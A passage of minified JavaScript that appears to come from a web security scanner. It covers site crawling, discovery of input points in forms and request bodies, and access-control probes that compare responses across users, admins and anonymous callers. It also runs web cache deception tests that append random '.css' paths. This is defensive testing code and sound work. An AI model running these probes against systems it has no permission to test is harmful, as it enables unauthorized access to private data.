code: "sign_in_unproven",
message: "an address responds to the session, but in the browser the start page still asks for a password"
};
function entersByPage({login: login}) {
return login?.username !== undefined || login?.recording !== undefined;
}
const CONTRIBUTORS = [ async (coverage, {endSession: endSession}) => endSession === null ? coverage : withSignIn(coverage, await endSession()), async (coverage, {store: store, wanted: wanted, options: options, clean: clean}) => {
const landing = await store.gathered("landing");
const startPages = landing === null ? [] : [ ...landing.chain, landing.final ].map(({request: request}) => request.url);
const browser = wanted.has("browser") ? await store.gather("browser") : null;
const isRequired = options.browser === "required";
const seen = summarized(coverage, withBrowser(coverage.summary, browser, {
isRequired: isRequired,
startPages: startPages,
clean: clean
}));
if (browser?.state !== "available") return seen;
const isAnonymous = coverage.summary.signed_in === true && entersByPage(options) && startPages.some(url => browser.value.signIns.includes(url));
return isAnonymous ? withSignIn(seen, ANONYMOUS_VIEW) : withStartView(seen, browser.value, clean);
}, async (coverage, {store: store}) => summarized(coverage, withComponents(coverage.summary, await store.gathered("libraries"))), async (coverage, {store: store}) => summarized(coverage, withApi(coverage.summary, await store.gathered("operations"))), async (coverage, {store: store}) => {
const [pages, views, operations, inputs] = await Promise.all([ store.gathered("crawl"), store.gathered("browser"), store.gathered("operations"), store.gathered("active") ]);
return summarized(coverage, withReach(coverage.summary, {
pages: pages,
views: views,
operations: operations,
inputs: inputs
}));
} ];
async function completeCoverage(seen, gathering) {
let coverage = seen;
for (const contribute of CONTRIBUTORS) coverage = await contribute(coverage, gathering);
return coverage;
}
function summarized(coverage, summary) {
return {
...coverage,
summary: summary
};
}
function outcomeWithoutSecrets(outcome, clean) {
return {
...outcome,
reason: orNull(outcome.reason, clean)
};
}
function coverageWithoutSecrets(coverage, clean) {
const {browser: browser, api: api, components: components} = coverage;
return {
...coverage,
detail: orNull(coverage.detail, clean),
...browser === undefined ? {} : {
browser: {
...browser,
detail: orNull(browser.detail, clean)
}
},
...api === undefined ? {} : {
api: {
...api,
detail: orNull(api.detail, clean)
}
},
...components === undefined ? {} : {
components: components.filter(one => [ one.purl, decodeURIComponent(one.purl), one.url ].every(text => clean(text) === text))
}
};
}
function orNull(text, clean) {
return text === null ? null : clean(text);
}
function downgradeToInconclusive(outcomes, checks, doubt) {
const doubtful = new Set(checks.filter(doubt.concerns).map(({meta: meta}) => meta.id));
return outcomes.map(outcome => outcome.status === "passed" && doubtful.has(outcome.check_id) ? {
...outcome,
status: "error",
reason: doubt.reason.slice(0, 500)
} : outcome);
}
function passInPart(outcomes, checks, wall) {
const ofPaths = new Set(checks.filter(({needs: needs}) => needs.includes("exposure")).map(({meta: meta}) => meta.id));
return outcomes.map(outcome => outcome.status === "passed" && ofPaths.has(outcome.check_id) ? {
...outcome,
partial: true,
reason: [ wall, ...outcome.reason === null ? [] : [ outcome.reason ] ].join("; ").slice(0, 500)
} : outcome);
}
var core_place = __webpack_require__(86692);
const READING = [ "GET", "HEAD", "OPTIONS" ];
async function placeObstacle(place, target, sender) {
if (place.checkId.startsWith("exposure.")) return null;
const control = place.requests.find(({role: role}) => role === "control") ?? place.requests[0];
if (control === undefined) return null;
if (!READING.includes(control.method) && !place.checkId.startsWith("active.")) return null;
const attempt = await sender.fetch({
method: control.method,
url: control.url,
headers: (0, core_place.$8)(control),
...control.body === null ? {} : {
body: control.body
},
identity: (0, core_place.cu)(control),
fresh: true
});
return obstacleIn(attempt, control, target);
}
function obstacleIn(attempt, control, target) {
const path = control.url.slice(target.origin.length).slice(0, 200);
if (!(0, http.m_)(attempt)) return `${path} sends no response: ${attempt.failure.message}`;
const {status: status} = attempt.response;
if (status === control.response?.status && status >= 400) return null;
if (leadsToSignIn(attempt, target)) return `${path} leads to a sign-in`;
const obstacle = pageObstacle(attempt);
return obstacle === null ? null : `${path}: ${obstacle.detail.replace(/^the start page/, "the page")}`;
}
var semaphore = __webpack_require__(95810);
var same_content = __webpack_require__(74842);
const OBJECTS_MAX = 15;
const OBJECTS_OF_SHAPE = 2;
const FUNCTIONS_MAX = 15;
const PAGES_MAX = 3;
const REQUESTS_KEPT = 60;
const SESSION_REQUESTS = 30;
const SESSION_CHECKS = [ "access.session-fixation", "access.session-after-sign-out" ];
const STYLE_NAME = /[/;][a-z]{1,20}\.css$/;
async function gatherAccess(context) {
const {identities: identities} = context;
if (!identities.includes("user")) return {
state: "not_applicable",
reason: "no login was given, or the sign-in failed"
};
const crawl = await context.gather("crawl");
if (crawl.state !== "available") return crawl;
const {pages: pages} = crawl.value;
const readable = pages.filter(({exchange: exchange}) => exchange.response.status === 200);
const place = context.place?.location.url;
const isPlace = ({url: url}) => place === undefined || url === place;
const objects = identities.includes("second") ? objectsOf(readable.filter(isPlace)) : [];
const functions = identities.includes("admin") ? await functionsOf(context, pages) : [];
const cached = place === undefined ? privatePages(readable) : [ {
url: place.replace(STYLE_NAME, "")
} ];
const probes = [];
for (const page of objects) probes.push(...await compareObject(context, page, readable));
for (const url of functions) probes.push(...await compareFunction(context, url));
let compared = 0;
for (const {url: url} of cached) {
if (compared >= PAGES_MAX || context.requestsLeft() < REQUESTS_KEPT) break;
if (!await gather_access_isRefused(context, url)) continue;
compared += 1;
probes.push(...await compareCache(context, url));
}
const session = await trySession(context);
return {
state: "available",
value: {
probes: probes,
objects: objects.length,
functions: functions.length,
pages: compared,
session: session
}
};
}
async function trySession(context) {
const {disable_checks: disabled = []} = context.options;
if (SESSION_CHECKS.every(id => disabled.includes(id))) return {
reason: "its checks are disabled"
};
if (!context.ownershipProven) return {
reason: "ownership of the target is not proven"
};
const left = await context.spareRequests();
if (left < SESSION_REQUESTS || context.signal.aborted) return {
reason: "no requests or time were left"
};
return await (context.trySession?.()) ?? {
reason: "the user did not sign in with a user name and a password alone"
};
}
function privatePages(pages) {
return pages.filter(({exchange: exchange}) => (0, html_document.lM)(exchange) !== null).slice(0, PAGES_MAX * 3);
}
async function gather_access_read(context, url, identity) {
if (context.requestsLeft() < REQUESTS_KEPT) return null;
const attempt = await context.fetch({
url: url,
identity: identity,
fresh: true
});
return (0, http.m_)(attempt) ? attempt : null;
}
async function gather_access_isRefused(context, url) {
const without = await gather_access_read(context, url, "none");
if (without === null) return false;
const {status: status} = without.response;
const to = (0, redirect.E)(without);
if (to !== null) return to.origin !== context.target.origin || (0, sign_in_page.RJ)({
url: to.href,
text: ""
});
return status === 401 || status === 403 || status === 404;
}
async function readTwice(context, url, identity) {
const first = await gather_access_read(context, url, identity);
const again = first?.response.status === 200 ? await gather_access_read(context, url, identity) : null;
return first === null || again === null ? null : [ first, again ];
}
function objectsOf(pages) {
const counts = new Map;
return pages.filter(({url: url}) => {
const parsed = new URL(url);
const hasId = (0, url_shape.j4)(parsed).includes("{") || [ ...parsed.searchParams ].some(([name, value]) => /(?:^|_)(?:id|uuid|no|number)$/i.test(name) && value !== "");
const shape = (0, url_shape.T2)(parsed);
const count = (counts.get(shape) ?? 0) + 1;
if (hasId) counts.set(shape, count);
return hasId && count <= OBJECTS_OF_SHAPE;
}).slice(0, OBJECTS_MAX);
}
async function compareObject(context, {url: url, discoveredFrom: discoveredFrom}, pages) {
const {login: login, second_login: second} = context.options;
const [owner, caller] = [ (0, same_content.eZ)(login?.username), (0, same_content.eZ)(second?.username) ];
if (!await gather_access_isRefused(context, url)) return [];
const own = await readTwice(context, url, "user");
const other = own === null ? null : await gather_access_read(context, url, "second");
if (own === null || other === null || !(0, same_content.OI)(own, other, [ ...owner, ...caller ])) return [];
const list = pages.find(page => page.url === discoveredFrom);
const otherList = list === undefined ? null : await gather_access_read(context, list.url, "second");
if (otherList === null || linksOf(otherList).has(url)) return [];
const named = owner.filter(name => !caller.includes(name));
return [ {
kind: "object",
list: list?.exchange,
own: own[0],
other: other,
namesOwner: (0, same_content.a2)(other, named) && !namesTwice(other, caller, own[0])
} ];
}
function namesTwice(other, caller, own) {
return (0, same_content.a2)(own, caller) && (0, same_content.a2)(other, caller);
}
function linksOf(exchange) {
const {text: text} = exchange.response;
const links = (0, html_document.lM)(exchange)?.links.map(({url: url}) => url) ?? [];
const quoted = [ ...text.slice(0, 2e5).matchAll(/"(\/[^"\s]{1,300})"/g) ].map(([, path = ""]) => URL.parse(path, exchange.request.url)?.href ?? "");
return new Set([ ...links, ...quoted ]);
}
async function functionsOf(context, pages) {
const {origin: origin, startUrl: startUrl} = context.target;
if (context.place !== undefined) return [ context.place.location.url ];
const known = new Set(pages.flatMap(({url: url, exchange: exchange}) => [ url, ...linksOf(exchange) ]).map(url => (0, 
url_shape.T2)(new URL(url))));
const found = new Map;
const isOpen = (link, text) => link.origin === origin && !(0, link_policy.Ch)(link, text) && !(0, 
sign_in_page.RJ)({
url: link.href,
text: text
}) && (0, link_policy.af)(link, context.options);
const visit = async url => {
for (const {url: href, text: text} of await adminLinks(context, url)) {
const link = new URL(href);
const shape = (0, url_shape.T2)(link);
if (known.has(shape) || found.has(shape) || found.size >= FUNCTIONS_MAX || !isOpen(link, text)) continue;
found.set(shape, href);
}
};
await visit(startUrl);
for (const url of [ ...found.values() ].slice(0, 5)) await visit(url);
return [ ...found.values() ];
}
async function adminLinks(context, url) {
const page = await gather_access_read(context, url, "admin");
const to = page === null ? null : (0, redirect.E)(page);
const final = to?.origin === context.target.origin ? await gather_access_read(context, to.href, "admin") : page;
return final === null ? [] : (0, html_document.lM)(final)?.links ?? [];
}
async function compareFunction(context, url) {
const {login: login, admin_login: admin} = context.options;
const own = await readTwice(context, url, "admin");
if (own === null || !await gather_access_isRefused(context, url)) return [];
const other = await gather_access_read(context, url, "user");
const names = [ ...(0, same_content.eZ)(login?.username), ...(0, same_content.eZ)(admin?.username) ];
if (other === null || !(0, same_content.OI)(own, other, names)) return [];
return [ {
kind: "function",
own: own[0],
other: other,
namesOwner: false
} ];
}
async function compareCache(context, url) {
const {origin: origin, pathname: pathname} = new URL(url);
const base = pathname.replace(/\/$/, "");
for (const path of [ `${base}/${context.token(8)}.css`, `${base};${context.token(8)}.css` ]) {
const own = await readTwice(context, url, "user");
const poisoned = own === null ? null : await gather_access_read(context, `${origin}${path}`, "user");
if (own === null || poisoned === null || !(0, same_content.OI)(own, poisoned, [])) continue;
const other = await gather_access_read(context, `${origin}${path}`, "none");
if (other === null || !(0, same_content.OI)(own, other, [])) continue;
return [ {
kind: "cache",
own: poisoned,
other: other,
namesOwner: true
} ];
}
return [];
}
var insertion_point = __webpack_require__(72711);
function formKey({method: method, url: url, query: query, body: body}) {
const place = new URL(`${url}?${new URLSearchParams(query.map(pair => [ ...pair ]))}`);
return `${method} ${url}?${(0, url_shape.I7)(place)} ${namesOf(body).sort().join(",")}`;
}
function namesOf(body) {
if (body === undefined) return [];
if ((0, insertion_point.Ce)(body)) return body.fields.map(([name]) => name);
return typeof body.value === "object" && body.value !== null ? Object.keys(body.value) : [];
}
const SCORES = {
named: 0,
link: 1,
query: 2,
sibling: 3,
mention: 4,
rest: 5
};
const ALIKE = 3;
const PLACES_MAX = 5e4;
const JUDGED_MAX = 2e5;
class CrawlFrontier {
#origin;
#limits;
#queue=[];
#judged=new Set;
#known=new Set;
#taken=new Set;
#shapes=new Map;
#withQuery=new Map;
#paths=new Set;
#groups=new Map;
#groupOf=new Map;
#refused=new Set;
#nouns=new Set;
#open=SCORES.query;
#pushed=0;
constructor(origin, limits) {
this.#origin = origin;
this.#limits = limits;
}
get left() {
const waiting = new Map;
for (const entry of this.#queue) if (!this.#taken.has(entry.url) && entry.score !== SCORES.mention) waiting.set(entry.url, isFolded(entry));
const folded = [ ...waiting.values() ].filter(Boolean).length;
return {
folded: folded,
others: waiting.size - folded
};
}
get waiting() {
return this.#queue.filter(({score: score}) => score !== SCORES.mention).map(({url: url}) => url);
}
get isNextNamed() {
return this.hasNext() && this.#queue.at(-1)?.score === SCORES.named;
}
markSeen(href) {
const url = new URL(href);
this.#known.add((0, url_shape.GI)(url));
this.#taken.add(href);
this.#setShape(url, href);
}
addNamed({first_paths: first_paths = [], extra_paths: extra_paths = []}) {
for (const path of first_paths) this.add((0, document_base.O)(path, this.#origin), "first_paths", "", "named");
for (const path of extra_paths) this.add((0, document_base.O)(path, this.#origin), "extra_paths", "", "named");
}
add(href, from, text = "", kind = "link") {
if (href === null || this.#known.size >= PLACES_MAX || this.#wasJudged(`${kind} ${href} ${text}`)) return;
const url = new URL(href);
if (!this.#isPage(url)) return;
if (kind === "mention" && this.#refused.has(url.pathname)) return;
(0, act_address.Mk)(url, this.#nouns);
if (kind === "named" ? (0, link_policy.yi)(url, text) : (0, link_policy.zN)(url, text, this.#nouns)) {
this.refuse(href);
if (url.search.length > 1) this.add(`${url.origin}${url.pathname}`, from, text, kind);
return;
}
if (!(0, link_policy.af)(url, this.#limits)) return;
if (kind !== "mention" && url.search.length > 1) this.#noteQuery(url);
this.#place(url, {
url: href,
from: from
}, kind);
}
refuse(href) {
if (this.#refused.size < PLACES_MAX) this.#refused.add(new URL(href).pathname);
}
open(score) {
this.#open = SCORES[score];
}
hasNext() {
this.#settle();
return (this.#queue.at(-1)?.score ?? Number.POSITIVE_INFINITY) <= this.#open;
}
take(count) {
const wave = [];
while (wave.length < count && this.hasNext()) {
const next = this.#queue.pop();
if (next === undefined) break;
this.#taken.add(next.url);
wave.push({
url: next.url,
from: next.from,
isMention: next.score === SCORES.mention
});
}
return wave;
}
note(href, behaviour) {
const ofShape = this.#groups.get(shapeGroup((0, url_shape.T2)(new URL(href))));
for (const group of new Set([ ofShape, this.#groupOf.get(href) ])) group?.behaviours.set(behaviour, (group.behaviours.get(behaviour) ?? 0) + 1);
}
replace(href) {
const shape = this.#shapes.get((0, url_shape.T2)(new URL(href)));
if (shape === undefined || shape.spare === null || shape.isReplaced) return;
shape.isReplaced = true;
this.#push(shape.spare, "link", null);
}
linksWithQuery() {
return [ ...this.#withQuery.values() ];
}
#wasJudged(key) {
if (this.#judged.has(key)) return true;
if (this.#judged.size < JUDGED_MAX) this.#judged.add(key);
return false;
}
#isPage(url) {
if (url.origin !== this.#origin || url.href.length > 4e3) return false;
return !(0, link_policy.YY)(url) && !(0, link_policy.KJ)(url) && !(0, link_policy.fD)(url);
}
#noteQuery(url) {
const key = `${url.pathname}?${(0, url_shape.I7)(url)}`;
if (!this.#withQuery.has(key)) this.#withQuery.set(key, url.href);
}
#place(url, place, kind) {
const identity = (0, url_shape.GI)(url);
if (kind === "named") {
if (!this.#taken.has(place.url)) this.#push(place, "named", null);
this.#setShape(url, place.url);
} else if (!this.#known.has(identity)) this.#pushFound(url, place, kind);
this.#known.add(identity);
}
#pushFound(url, place, kind) {
const shape = (0, url_shape.T2)(url);
const known = this.#shapes.get(shape);
if (known !== undefined) {
known.spare ??= place;
this.#push(place, "sibling", this.#group(shapeGroup(shape)), hasEmptyValue(url));
return;
}
const path = (0, url_shape.UD)(url);
const isKnownPath = this.#paths.has(path);
this.#setShape(url, place.url);
if (kind === "mention") this.#push(place, "mention", null); else if (kind === "entry") this.#push(place, "sibling", this.#group(`entries ${place.from}`)); else if (isKnownPath) this.#push(place, "query", this.#group(`queries ${path}`)); else this.#push(place, "link", null);
}
#setShape(url, href) {
const shape = (0, url_shape.T2)(url);
if (!this.#shapes.has(shape)) this.#shapes.set(shape, {
first: href,
spare: null,
isReplaced: false
});
this.#group(shapeGroup(shape));
this.#paths.add((0, url_shape.UD)(url));
}
#group(name) {
const known = this.#groups.get(name);
if (known !== undefined) return known;
const group = {
position: this.#groups.size,
size: 0,
behaviours: new Map
};
this.#groups.set(name, group);
return group;
}
#push(place, score, group, isFirst = false) {
this.#pushed += 1;
const rank = isFirst ? -1 : group?.size ?? 0;
if (group !== null) {
group.size += 1;
this.#groupOf.set(place.url, group);
}
this.#insert({
...place,
score: SCORES[score],
rank: rank,
group: group,
order: this.#pushed
});
}
#insert(entry) {
let low = 0;
let high = this.#queue.length;
while (low < high) {
const middle = low + high >>> 1;
const other = this.#queue[middle];
if (other !== undefined && comesBefore(entry, other)) low = middle + 1; else high = middle;
}
this.#queue.splice(low, 0, entry);
}
#settle() {
for (let next = this.#queue.at(-1); next !== undefined; next = this.#queue.at(-1)) {
const isTaken = this.#taken.has(next.url);
if (!isTaken && !isFolded(next)) return;
if (!isTaken && next.score === SCORES.rest) return;
this.#queue.pop();
if (!isTaken) this.#insert({
...next,
score: SCORES.rest
});
}
}
}
function shapeGroup(shape) {
return `shape ${shape}`;
}
function isFolded({score: score, group: group}) {
if (score < SCORES.query || group === null) return false;
for (const count of group.behaviours.values()) if (count >= ALIKE) return true;
return false;
}
function comesBefore(one, other) {
const difference = one.score - other.score || one.rank - other.rank || (one.group?.position ?? 0) - (other.group?.position ?? 0) || one.order - other.order;
return difference < 0;
}
function hasEmptyValue(url) {
return [ ...url.searchParams.values() ].includes("");
}
const POINTS_MAX = 2e4;
const insertion_points_PAIRS_MAX = 30;
const NOT_PROBED = new Set([ "submit", "button", "image", "file", "reset" ]);
const SIZE_LIMIT = "MAX_FILE_SIZE";
const COMPOSED = new Set([ "file", "textarea", "password" ]);
const TYPED = new Set([ "text", "search", "select", "email", "url", "number", "tel" ]);
const PLAUSIBLE = new Map([ [ "email", "visitor@example.com" ], [ "url", "http://example.com/" ], [ "number", "1" ], [ "range", "1" ], [ "tel", "5550100" ], [ "date", "2024-01-01" ], [ "time", "12:00" ], [ "password", "Passw0rd-1" ], [ "hidden", "" ], [ "submit", "" ], [ "button", "" ] ]);
function plausibleValue({type: type, value: value}) {
return value === "" ? PLAUSIBLE.get(type) ?? "test" : value;
}
function discoverInsertionPoints(urls, forms) {
const found = new Map;
const links = urls.map(href => new URL(href)).filter(url => !(0, link_policy.Ov)(url));
for (const {key: key, point: point} of [ ...links.flatMap(pointsOfQuery), ...forms.flatMap(pointsOfForm) ]) if (!found.has(key) && found.size < POINTS_MAX) found.set(key, point);
return [ ...found.values() ];
}
function pointsOfQuery(url) {
return queryPoints(url).map(point => keyed(placeOf(url), point.kind === "query" ? point.name : "", point));
}
function pointsOfForm(form) {
const action = new URL(form.action);
if ((0, link_policy.eG)(action, form.method)) return [];
const sent = sentFields(form);
const request = formRequest(form);
const place = request.method === "GET" ? new URL(`${request.url}?${(0, insertion_point.G2)(request.query)}`) : action;
const shape = `${placeOf(place)} ${sent.map(({name: name}) => name).sort().join(",")}`;
const isComposed = form.fields.some(({type: type}) => COMPOSED.has(type));
const optional = isComposed ? [] : sent.filter(isOptional);
const points = sent.filter(field => isProbed(field, sent)).map(field => keyed(shape, field.name, {
kind: request.method === "GET" ? "query" : "form",
name: field.name,
request: request,
baseline: plausibleValue(field),
...isInvented(field) ? {
isInvented: true
} : {},
...optional.length > 1 && optional.includes(field) ? {
alone: formRequest(form, optional, field)
} : {}
}));
return form.method === "POST" ? [ ...points, ...pointsOfQuery(action) ] : points;
}
function isProbed({type: type, name: name}, sent) {
if (type !== "password") return !NOT_PROBED.has(type) && name !== SIZE_LIMIT;
return sent.filter(one => one.type === type).length === 1 && sent.some(one => TYPED.has(one.type));
}
function placeOf(url) {
return `${url.pathname.slice(0, 2e3)}?${(0, url_shape.I7)(url)}`;
}
function keyed(shape, name, point) {
return {
key: `${point.request.method} ${shape} ${name}`,
point: point
};
}
function isOptional(field) {
return isInvented(field) && field.isRequired !== true && TYPED.has(field.type);
}
function queryPoints(url) {
const request = {
method: "GET",
url: `${url.origin}${url.pathname}`,
query: []
};
if (url.search.length < 2) return [];
if (!url.search.includes("=")) return [ {
kind: "query-string",
request: request,
baseline: (0, shared_text.oF)(url.search.slice(1))
} ];
const query = pairsOf(url);
return query.flatMap(([name, baseline]) => name === "" ? [] : [ {
kind: "query",
name: name,
request: {
...request,
query: query
},
baseline: baseline
} ]);
}
function pairsOf(url) {
return [ ...url.searchParams ].slice(0, insertion_points_PAIRS_MAX);
}
function formRequest(form, empty = [], filled) {
const action = new URL(form.action);
const url = `${action.origin}${action.pathname}`;
const fields = sentFields(form).map(field => {
const isEmpty = field !== filled && empty.includes(field);
return [ field.name, isEmpty ? "" : plausibleValue(field) ];
});
if (form.method === "GET") return {
method: "GET",
url: url,
query: fields
};
const encoding = form.isMultipart === true ? "multipart" : "form";
return {
method: "POST",
url: url,
query: pairsOf(action),
body: {
encoding: encoding,
fields: fields
}
};
}
function sentFields({fields: fields}) {
const some = fields.filter(({type: type}) => type !== "file").slice(0, insertion_points_PAIRS_MAX);
const submit = some.find(({type: type}) => type === "submit");
return some.filter(field => field.type !== "submit" && field.type !== "image" || field === submit);
}
function countLeftOut(urls, forms) {
const above = length => Math.max(0, length - insertion_points_PAIRS_MAX);
const ofLinks = urls.reduce((sum, url) => sum + above(new URL(url).searchParams.size), 0);
return forms.reduce((sum, {fields: fields}) => sum + above(fields.filter(one => isProbed(one, fields)).length), ofLinks);
}
function isInvented({type: type, value: value}) {
return value === "" && type !== "hidden";
}
var directory_listing = __webpack_require__(79624);
var point_location = __webpack_require__(28654);
const FORMS_MAX = 2e4;
function addLocation(frontier, exchange, from) {
const {request: request, response: response} = exchange;
frontier.add((0, document_base.O)((0, http.wx)(response.headers, "location") ?? "", request.url), from);
for (const {url: url, text: text} of (0, html_document.lM)(exchange)?.links ?? []) frontier.add(url, request.url, text);
}
function addLinks(frontier, page) {
const document = (0, html_document.lM)(page.exchange);
if (document === null) {
for (const url of jsonLinks(page.exchange.response.text, page.url)) frontier.add(url, page.url);
return;
}
const {request: request, response: response} = page.exchange;
const isFolder = (0, directory_listing.E)(response, new URL(request.url).pathname) !== null;
for (const link of document.links) frontier.add(link.url, page.url, link.text, isFolder ? "entry" : "link");
for (const form of document.forms) if (form.method === "GET") frontier.add(form.action, page.url); else frontier.refuse(form.action);
}
function formsOf(pages) {
const forms = new Map;
for (const page of pages) {
const origin = new URL(page.url).origin;
for (const form of (0, html_document.lM)(page.exchange)?.forms ?? []) {
if (forms.size >= FORMS_MAX) return [ ...forms.values() ];
const fields = form.fields.map(({name: name, value: value}) => (0, point_location.Cn)([ name, value ]) ? `${name}=${value}` : name);
const key = `${form.method} ${form.action} ${fields.join(",")}`;
if (!forms.has(key) && new URL(form.action).origin === origin) forms.set(key, form);
}
}
return [ ...forms.values() ];
}
const WAVE = 6;
const PAGES_SHARE = .5;
async function crawlFirst(context) {
const {target: target, options: options} = context;
const frontier = new CrawlFrontier(target.origin, options);
frontier.addNamed({
first_paths: options.first_paths ?? []
});
const {share: share, requests: requests} = context.room("first");
const most = Math.min(requests, Math.floor(share * PAGES_SHARE));
const pages = [];
for (let read = 0; read < most && frontier.hasNext() && context.room("first").milliseconds > 0; ) {
const wave = frontier.take(Math.min(WAVE, most - read));
read += wave.length;
for (const exchange of await crawl_first_fetchAll(context, wave)) if (isPage(exchange)) pages.push({
url: exchange.request.url,
exchange: exchange,
discoveredFrom: "first_paths"
});
}
const own = new Set(pages.map(({url: url}) => new URL(url).pathname));
for (const page of pages) addLinks(frontier, page);
const urls = frontier.linksWithQuery().filter(url => own.has(new URL(url).pathname));
const script = pages.flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange)?.scripts ?? []).find(({url: url}) => url !== null && new URL(url).origin === target.origin)?.url;
return {
pages: pages,
resources: script == null ? [] : await crawl_first_fetchAll(context, [ {
url: script
} ]),
parameters: discoverInsertionPoints(urls, formsOf(pages))
};
}
async function crawl_first_fetchAll(context, places) {
const exchanges = (await Promise.all(places.map(({url: url}) => context.fetch({
url: url
})))).filter(http.m_);
for (const exchange of exchanges) await context.analyse(exchange);
return exchanges;
}
function isPage({response: {status: status}}) {
return (status < 300 || status >= 400) && status !== 404 && status !== 410;
}
const LEAVES_MAX = 30;
const request_body_DEPTH_MAX = 5;
function requestBody(encoding, value, root) {
if (encoding === "json") return {
encoding: encoding,
value: value
};
if (encoding === "xml") return {
encoding: encoding,
value: value,
...root === undefined ? {} : {
root: root
}
};
const members = typeof value === "object" && value !== null && !Array.isArray(value) ? Object.entries(value) : [];
const fields = members.map(([name, member]) => [ name, typeof member === "object" ? JSON.stringify(member) : String(member) ]);
return {
encoding: encoding,
fields: fields
};
}
function bodyPoints(request) {
const {body: body} = request;
if (body === undefined) return [];
const isSent = name => !(0, data_names.cP)("not-sent-back", String(name));
if ((0, insertion_point.Ce)(body)) return body.fields.filter(([name]) => isSent(name)).map(([name, baseline]) => ({
kind: "form",
name: name,
baseline: baseline,
request: request
}));
const members = leaves(body.value, [], request_body_DEPTH_MAX).slice(0, LEAVES_MAX).filter(({path: path}) => path.every(isSent)).map(({path: path, baseline: baseline}) => ({
kind: "json",
path: path,
baseline: baseline,
request: request
}));
return body.encoding === "xml" ? [ ...members, {
kind: "document",
baseline: (0, insertion_point.RX)(body),
request: request
} ] : members;
}
function leaves(value, path, depth) {
if (typeof value === "string" || typeof value === "number") return [ {
path: path,
baseline: String(value)
} ];
if (typeof value !== "object" || value === null || depth === 0) return [];
const entries = Array.isArray(value) ? value.slice(0, 1).map((item, index) => [ index, item ]) : Object.entries(value).slice(0, LEAVES_MAX);
return entries.flatMap(([key, item]) => leaves(item, [ ...path, key ], depth - 1));
}
const endpoint_points_FIELDS_MAX = 30;
function endpointPoints({method: method, url: url, body: sent}) {
const address = URL.parse(url);
if (method !== "POST" || sent === null || address === null || (0, link_policy.Ov)(address)) return [];
const body = endpoint_points_bodyOf(sent.type, sent.text);
if (body === null) return [];
const query = [ ...address.searchParams ].slice(0, endpoint_points_FIELDS_MAX);
return bodyPoints({
method: "POST",
url: `${address.origin}${address.pathname}`,
query: query,
body: body
});
}
function endpoint_points_bodyOf(type, text) {
if (/^application\/x-www-form-urlencoded\b/i.test(type)) return {
encoding: "form",
fields: [ ...new URLSearchParams(text) ].slice(0, endpoint_points_FIELDS_MAX)
};
const boundary = /^multipart\/form-data\s*;\s*boundary="?([\w'()+,./:=?-]{1,70})"?/i.exec(type)?.[1];
if (boundary !== undefined) return {
encoding: "multipart",
fields: partsOf(text, boundary)
};
if (!/^application\/(?:[\w.+-]{1,50}\+)?json\b/i.test(type)) return null;
const value = (0, shared_records.U4)(text);
return value === undefined ? null : requestBody("json", value);
}
function partsOf(text, boundary) {
return text.split(`--${boundary}`).slice(1, endpoint_points_FIELDS_MAX + 1).flatMap(part => {
const [head = "", ...rest] = part.split("\r\n\r\n");
const name = /^content-disposition: *form-data; *name="([^"\r\n]{1,200})"[ \t]*$/im.exec(head)?.[1];
return name === undefined ? [] : [ [ name, rest.join("\r\n\r\n").replace(/\r\n$/, "") ] ];
});
}
const NUMBERED = /[-_]\{n\}/;
const FOUND_MAX = 2e3;
function siblingPoints(points, addresses) {
const withPoints = new Set(points.map(({request: request}) => new URL(request.url).pathname));
const bare = new Map;
for (const url of addresses.map(href => new URL(href))) if (!withPoints.has(url.pathname) && NUMBERED.test((0, 
url_shape.j4)(url)) && !(0, link_policy.Ov)(url)) bare.set(url.pathname, url);
const siblings = Map.groupBy(bare.values(), url_shape.j4);
const found = new Map;
for (const point of points.filter(({kind: kind}) => kind !== "path")) for (const {origin: origin, pathname: pathname} of siblings.get((0, 
url_shape.j4)(new URL(point.request.url))) ?? []) {
const key = `${pathname} ${point.request.method} ${point.kind} ${nameOf(point)}`;
if (found.size < FOUND_MAX && !found.has(key)) found.set(key, movedTo(origin + pathname, point));
}
return [ ...found.values() ];
}
function nameOf(point) {
if (point.kind === "json") return point.path.join("/");
return "name" in point ? point.name : "";
}
function movedTo(url, point) {
const {request: request, alone: alone} = point;
return {
...point,
request: {
...request,
url: url
},
...alone === undefined ? {} : {
alone: {
...alone,
url: url
}
}
};
}
async function gatherSurface(context) {
const operations = context.place !== undefined ? null : context.gather("operations");
const crawl = await context.gather("crawl");
if (crawl.state !== "available") return crawl;
if (operations === null) return {
state: "available",
value: {
...crawl.value,
endpoints: []
}
};
const [views, api] = [ await context.gather("views"), await operations ];
const pages = views.state === "available" ? gather_surface_joined(crawl.value, views.value.seen()) : {
...crawl.value,
endpoints: []
};
const surface = api.state === "available" ? withOperations(pages, api.value) : pages;
return {
state: "available",
value: withSiblings(surface, context.options)
};
}
function withSiblings(surface, limits) {
const {pages: pages, redirects: redirects = [], unread: unread = [], endpoints: endpoints, parameters: parameters} = surface;
const addresses = [ ...pages.map(({url: url}) => url), ...redirects.map(({request: request}) => request.url), ...unread, ...endpoints ].filter(url => (0, 
link_policy.af)(new URL(url), limits));
return {
...surface,
parameters: [ ...parameters, ...siblingPoints(parameters, addresses) ]
};
}
function withOperations(surface, {points: points, urls: urls}) {
return {
...surface,
parameters: withFresh(points, surface.parameters),
endpoints: [ ...new Set([ ...surface.endpoints, ...urls ]) ]
};
}
function gather_surface_joined(crawl, browser) {
const known = new Set([ ...crawl.pages.map(({url: url}) => url), ...crawl.resources.map(({request: request}) => request.url) ]);
const fresh = browser.exchanges.filter(({request: request}) => !known.has(request.url));
const pages = fresh.flatMap(exchange => (0, html_document.lM)(exchange) === null ? [] : [ {
url: exchange.request.url,
exchange: exchange,
discoveredFrom: "browser"
} ]);
const scripts = fresh.filter(exchange => (0, html_document.lM)(exchange) === null);
const forms = pages.flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange)?.forms ?? []);
const urls = [ ...browser.routes, ...browser.endpoints.filter(isRead).map(({url: url}) => url) ].map(withoutFragment);
return {
...crawl,
pages: [ ...crawl.pages, ...pages ],
resources: [ ...crawl.resources, ...scripts ],
parameters: withFresh(crawl.parameters, [ ...discoverInsertionPoints(urls, forms), ...browser.endpoints.flatMap(endpointPoints) ]),
endpoints: [ ...new Set(browser.endpoints.filter(isRead).map(({url: url}) => url)) ]
};
}
function isRead({method: method, url: url}) {
return method === "GET" && !(0, link_policy.Ch)(new URL(url));
}
function withFresh(known, found) {
const keys = new Set(known.map(keyOf));
const fresh = found.filter(point => {
const key = keyOf(point);
return !keys.has(key) && keys.add(key) !== undefined;
});
return [ ...known, ...fresh ];
}
function keyOf(point) {
